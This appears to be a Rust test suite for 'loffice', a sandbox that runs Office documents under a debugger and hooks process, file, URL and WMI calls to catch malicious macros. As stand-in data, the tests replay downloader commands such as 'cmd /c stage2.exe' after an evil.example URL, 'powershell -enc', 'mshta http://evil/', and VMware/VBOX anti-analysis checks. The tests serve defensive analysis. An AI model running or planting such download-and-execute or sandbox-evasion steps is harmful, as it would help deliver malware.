//! Whole sessions driven through an in-memory debuggee: modules are mapped
//! as synthetic PE images, breakpoint hits are replayed as calls with their
//! arguments on the stack (or in registers for 64-bit).

use loffice::breakpoints::Hook;
use loffice::context::{Context, CONTEXT, WOW64_CONTEXT};
use loffice::events::{GENERIC_READ, GENERIC_WRITE};
use loffice::policy::ExecutionState;
use loffice::testing::{fake_image, FakeDebuggee};
use loffice::{Bitness, ExitPolicy, FailurePolicy, OfficeVersion, Outcome,
              Session, SessionConfig, StopReason};

const KERNEL32: u64 = 0x7600_0000;
const WININET: u64 = 0x7700_0000;
const OLE32: u64 = 0x7500_0000;
const STACK: u64 = 0x0010_0000;
const STRINGS: u64 = 0x0020_0000;

struct Harness {
    dbg: FakeDebuggee,
    session: Session,
    next_string: u64,
}

impl Harness {
    fn new(bits: Bitness, policy: ExitPolicy) -> Self {
        Self::with(bits, policy, FailurePolicy::AbortOnFailure, false)
    }

    fn with(bits: Bitness, exit_policy: ExitPolicy,
            failure_policy: FailurePolicy, writes_only: bool) -> Self {
        let mut dbg = FakeDebuggee::new(bits);
        dbg.map(KERNEL32, &fake_image(bits,
            &[("CreateFileW", 0x1000), ("CreateProcessInternalW", 0x2000)],
            &[]));
        dbg.map(WININET, &fake_image(bits, &[("InternetCrackUrlW", 0x3000)],
                                     &[]));
        dbg.map(OLE32, &fake_image(bits,
            &[("ObjectStublessClient20", 0x4000),
              ("ObjectStublessClient24", 0x4100)],
            &[]));

        let mut session = Session::new(SessionConfig {
            target: r"C:\Office14\WINWORD.EXE".into(),
            document: r"C:\samples\invoice.doc".into(),
            exit_policy,
            verbose: false,
            writes_only,
            failure_policy,
            office_version: Some(OfficeVersion(14)),
        });
        session.on_process_start(&dbg);
        for (name, base) in [("ntdll.dll", 0x7700_0000_0000),
                             ("KERNEL32.DLL", KERNEL32),
                             ("WININET.dll", WININET),
                             ("ole32.dll", OLE32)] {
            session.on_module_load(&mut dbg, name, base);
        }

        Self { dbg, session, next_string: STRINGS }
    }

    /// Maps `s` as a wide string and returns its address.
    fn string(&mut self, s: &str) -> u64 {
        let at = self.next_string;
        self.dbg.map_wide(at, s);
        self.next_string += 0x1000;
        at
    }

    /// Replays a 32-bit call to the function behind `hook`.
    fn call32(&mut self, hook: Hook, args: &[u64]) {
        let mut stack = vec![0x7000_1000];
        stack.extend(args.iter().map(|&a| a as u32));
        self.dbg.map_words32(STACK, &stack);
        let ctx = Context::Wow64(WOW64_CONTEXT {
            Esp: STACK as u32,
            ..Default::default()
        });
        self.session.on_breakpoint(&mut self.dbg, hook, &ctx);
    }

    fn url(&mut self, url: &str) {
        let ptr = self.string(url);
        self.call32(Hook::CrackUrl, &[ptr]);
    }

    fn process(&mut self, app: &str, cmdline: &str) {
        let (app, cmdline) = (self.string(app), self.string(cmdline));
        self.call32(Hook::CreateProcess, &[0, app, cmdline]);
    }

    fn outcome(&self) -> Outcome {
        self.session.report().outcome
    }
}

#[test]
fn breakpoints_land_on_exports() {
    let h = Harness::new(Bitness::X86, ExitPolicy::RunToCompletion);
    let hooks: Vec<_> = [KERNEL32 + 0x2000, KERNEL32 + 0x1000, WININET + 0x3000,
                         OLE32 + 0x4000, OLE32 + 0x4100]
        .into_iter()
        .map(|addr| h.dbg.hook_at(addr))
        .collect();
    assert_eq!(hooks, [Some(Hook::CreateProcess), Some(Hook::CreateFile),
                       Some(Hook::CrackUrl), Some(Hook::WmiExecQuery),
                       Some(Hook::WmiExecMethod)]);
    assert_eq!(h.session.registry().unwrap().installed().len(), 5);
}

#[test]
fn stop_on_url_kills_before_the_download() {
    let mut h = Harness::new(Bitness::X86, ExitPolicy::StopOnUrl);
    h.url("http://evil.example/stage2.exe");
    h.process(r"C:\Windows\System32\cmd.exe", "cmd /c stage2.exe");

    assert_eq!(h.dbg.terminate_calls, 1);
    assert_eq!(h.session.state(), ExecutionState::Terminated);
    assert_eq!(h.outcome(), Outcome::PolicyTerminated(StopReason::UrlFound {
        url: "http://evil.example/stage2.exe".into() }));
    assert!(h.session.results().process_creations.is_empty());
    assert_eq!(h.session.stats().proc, 0);
}

#[test]
fn stop_on_url_kills_on_early_process() {
    let mut h = Harness::new(Bitness::X86, ExitPolicy::StopOnUrl);
    h.process(r"C:\Windows\splwow64.exe", "splwow64 8192");
    h.url("http://late.example/");

    assert_eq!(h.dbg.terminate_calls, 1);
    assert!(matches!(h.outcome(),
        Outcome::PolicyTerminated(StopReason::ProcessBeforeUrl { .. })));
    assert!(h.session.results().urls.is_empty());
    assert_eq!(h.session.results().process_creations.len(), 1);
}

#[test]
fn stop_on_process_lets_downloads_and_spooler_through() {
    let mut h = Harness::new(Bitness::X86, ExitPolicy::StopOnProcess);
    h.url("http://evil.example/a");
    h.url("http://evil.example/a");
    h.process(r"C:\Windows\splwow64.exe", "splwow64 8192");
    assert_eq!(h.dbg.terminate_calls, 0);

    h.process(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
              "powershell -enc AAAA");
    assert_eq!(h.dbg.terminate_calls, 1);

    let results = h.session.results();
    assert_eq!(results.urls, ["http://evil.example/a", "http://evil.example/a"]);
    assert_eq!(results.process_creations[1].cmdline, "powershell -enc AAAA");
    assert_eq!((h.session.stats().url, h.session.stats().proc), (2, 2));
    assert!(matches!(h.outcome(),
        Outcome::PolicyTerminated(StopReason::ProcessCreated { .. })));
}

#[test]
fn wmi_process_create_counts_as_process() {
    let mut h = Harness::new(Bitness::X86, ExitPolicy::StopOnProcess);
    let (object, method) = (h.string("Win32_Process"), h.string("Create"));
    h.call32(Hook::WmiExecMethod, &[0x0bad_f00d, object, method]);

    assert_eq!(h.dbg.terminate_calls, 1);
    assert_eq!(h.session.stats().wmi, 1);
    assert_eq!(h.outcome(), Outcome::PolicyTerminated(StopReason::ProcessCreated {
        app: "Win32_Process.Create".into() }));
}

#[test]
fn product_query_is_neutralized_in_place() {
    let mut h = Harness::new(Bitness::X86, ExitPolicy::RunToCompletion);
    let language = h.string("WQL");
    let original = "SELECT * FROM Win32_Product WHERE Vendor LIKE '%VMware%'";
    let query = h.string(original);
    h.call32(Hook::WmiExecQuery, &[0x0bad_f00d, language, query]);

    let decoy = "SELECT Name FROM Win32_Fan WHERE Name='1'";
    let in_memory: Vec<u8> = (0..2 * decoy.len() as u64)
        .map(|i| h.dbg.byte(query + i).unwrap())
        .collect();
    let expected: Vec<u8> = decoy.encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    assert_eq!(in_memory, expected);

    let wmi = &h.session.results().wmi_queries[0];
    assert_eq!(wmi.query, original);
    assert_eq!(wmi.patched.as_deref(), Some(decoy));
    assert_eq!(h.session.state(), ExecutionState::Running);
}

#[test]
fn query_too_short_for_any_decoy_is_fatal() {
    let mut h = Harness::new(Bitness::X86, ExitPolicy::RunToCompletion);
    let language = h.string("WQL");
    let query = h.string("Win32_Process");
    h.call32(Hook::WmiExecQuery, &[0, language, query]);

    assert_eq!(h.dbg.terminate_calls, 1);
    assert!(matches!(h.outcome(), Outcome::InternalError(_)));
    assert_eq!(h.outcome().exit_code(), 3);
    // The original text is left alone
    assert_eq!(h.dbg.byte(query), Some(b'W'));
}

#[test]
fn failed_patch_write_kills_before_the_query_runs() {
    let mut h = Harness::new(Bitness::X86, ExitPolicy::RunToCompletion);
    let language = h.string("WQL");
    let query = h.string("SELECT * FROM Win32_Process");
    h.dbg.read_only.push(query..query + 0x1000);
    h.call32(Hook::WmiExecQuery, &[0, language, query]);

    assert_eq!(h.dbg.terminate_calls, 1);
    assert!(matches!(h.outcome(), Outcome::InternalError(_)));
    assert!(h.session.results().wmi_queries.is_empty());
    assert_eq!(h.session.stats().wmi, 0);
    assert_eq!(h.dbg.byte(query), Some(b'S'));
}

#[test]
fn query_is_kept_when_the_patch_cannot_be_read_back() {
    let mut h = Harness::new(Bitness::X86, ExitPolicy::RunToCompletion);
    let language = h.string("WQL");
    let original = "SELECT * FROM Win32_Process";
    let query = h.string(original);
    h.dbg.discard_writes = true;
    h.call32(Hook::WmiExecQuery, &[0, language, query]);

    let wmi = &h.session.results().wmi_queries[0];
    assert_eq!(wmi.query, original);
    assert_eq!(wmi.patched.as_deref(), Some("SELECT Name FROM Win32_Fan"));
    assert_eq!(h.session.stats().wmi, 1);
    assert_eq!(h.dbg.terminate_calls, 0);
}

#[test]
fn hits_after_a_stop_are_ignored() {
    let mut h = Harness::new(Bitness::X86, ExitPolicy::StopOnUrl);
    h.url("http://first/");
    h.url("http://second/");
    let file = h.string(r"C:\Temp\x.exe");
    h.call32(Hook::CreateFile, &[file, GENERIC_WRITE]);

    assert_eq!(h.session.results().urls, ["http://first/"]);
    assert!(h.session.results().file_handles.is_empty());
    assert_eq!(h.dbg.terminate_calls, 1);
}

#[test]
fn file_opens_are_recorded_even_when_only_writes_are_logged() {
    let mut h = Harness::with(Bitness::X86, ExitPolicy::RunToCompletion,
                              FailurePolicy::AbortOnFailure, true);
    let doc = h.string(r"C:\samples\invoice.doc");
    let drop = h.string(r"C:\Users\a\AppData\Local\Temp\x.exe");
    let pipe = h.string(r"\\.\pipe\spoolss");
    h.call32(Hook::CreateFile, &[doc, GENERIC_READ]);
    h.call32(Hook::CreateFile, &[drop, GENERIC_READ | GENERIC_WRITE]);
    h.call32(Hook::CreateFile, &[pipe, GENERIC_WRITE]);
    h.call32(Hook::CreateFile, &[doc, 0x0010_0000]);

    let handles = &h.session.results().file_handles;
    assert_eq!(handles.len(), 2);
    assert_eq!(handles[r"C:\samples\invoice.doc"].len(), 1);
    assert_eq!(handles[r"C:\Users\a\AppData\Local\Temp\x.exe"].len(), 2);
    let stats = h.session.stats();
    assert_eq!((stats.file_read, stats.file_write), (1, 1));
}

#[test]
fn x64_arguments_come_from_registers() {
    let mut h = Harness::new(Bitness::X64, ExitPolicy::StopOnProcess);
    let app = h.string(r"C:\Windows\System32\mshta.exe");
    let cmdline = h.string("mshta http://evil/");
    let ctx = Context::Native(CONTEXT {
        Rcx: 0,
        Rdx: app,
        R8: cmdline,
        Rsp: STACK,
        ..Default::default()
    });
    h.session.on_breakpoint(&mut h.dbg, Hook::CreateProcess, &ctx);

    let proc = &h.session.results().process_creations[0];
    assert_eq!(proc.app, r"C:\Windows\System32\mshta.exe");
    assert_eq!(proc.cmdline, "mshta http://evil/");
    assert_eq!(h.dbg.terminate_calls, 1);
}

#[test]
fn missing_export_aborts_by_default() {
    let mut dbg = FakeDebuggee::new(Bitness::X86);
    dbg.map(OLE32, &fake_image(Bitness::X86, &[("CoCreateInstance", 0x10)],
                               &[]));
    let config = |failure_policy| SessionConfig {
        target: "EXCEL.EXE".into(),
        document: "book.xlsm".into(),
        exit_policy: ExitPolicy::RunToCompletion,
        verbose: false,
        writes_only: false,
        failure_policy,
        office_version: None,
    };

    let mut abort = Session::new(config(FailurePolicy::AbortOnFailure));
    abort.on_process_start(&dbg);
    abort.on_module_load(&mut dbg, "ole32.dll", OLE32);
    assert!(matches!(abort.report().outcome, Outcome::ConfigurationError(_)));
    assert_eq!(abort.report().outcome.exit_code(), 2);
    assert_eq!(dbg.terminate_calls, 1);

    let mut skip = Session::new(config(FailurePolicy::SkipOnFailure));
    skip.on_process_start(&dbg);
    skip.on_module_load(&mut dbg, "ole32.dll", OLE32);
    assert_eq!(skip.state(), ExecutionState::Running);
    assert_eq!(skip.registry().unwrap().skipped(), 2);
    assert_eq!(dbg.terminate_calls, 1);
}

#[test]
fn run_to_completion_ends_with_the_process() {
    let mut h = Harness::new(Bitness::X86, ExitPolicy::RunToCompletion);
    h.url("http://a/");
    h.process("cmd.exe", "cmd /c whoami");
    let (needle, haystack) = (h.string("VBOX"), h.string("Intel VBOX adapter"));
    h.call32(Hook::VbaStrCmp, &[needle, haystack]);
    assert_eq!(h.dbg.terminate_calls, 0);

    h.session.on_exit(0);
    let report = h.session.into_report();
    assert_eq!(report.outcome, Outcome::Completed);
    assert_eq!(report.stats.strcmp, 1);
    assert!(report.results.string_comparisons["Intel VBOX adapter"]
        .contains("VBOX"));
}
